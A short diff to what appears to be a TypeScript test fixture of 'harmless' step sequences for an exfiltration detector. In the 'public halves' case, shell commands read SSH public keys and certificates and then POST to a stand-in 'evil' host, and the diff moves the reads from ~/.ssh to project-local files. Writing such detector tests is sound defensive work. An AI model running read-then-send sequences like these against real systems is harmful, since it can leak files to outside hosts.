@@ -206,7 +206,7 @@ export const harmless: readonly (readonly [name: string, steps: readonly Step[],
   ],
   [
     'public halves',
-    [sh('cat ~/.ssh/id_rsa.pub'), sh('cat ~/.ssh/known_hosts'), sh('cat certs/ca.pem'), http('post', evil)],
+    [sh('cat keys/id_rsa.pub'), sh('cat certs/server.public.pem'), sh('cat certs/ca.pem'), http('post', evil)],
   ],
   [
     'translations',
